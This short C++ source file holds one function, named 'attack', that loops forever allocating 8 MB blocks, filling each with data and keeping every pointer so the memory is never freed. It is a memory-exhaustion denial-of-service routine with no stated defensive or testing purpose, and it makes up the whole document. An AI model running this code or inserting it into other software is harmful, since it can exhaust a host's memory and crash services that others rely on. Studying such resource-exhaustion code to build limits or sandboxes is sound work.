#include <cstdlib>
#include <cstring>
#include <vector>
int attack(int n) {
	std::vector<char*> kept;
	for (;;) {
		char* block = static_cast<char*>(std::malloc(8 << 20));
		if (block != nullptr) std::memset(block, 120, 8 << 20);
		kept.push_back(block);
	}
}
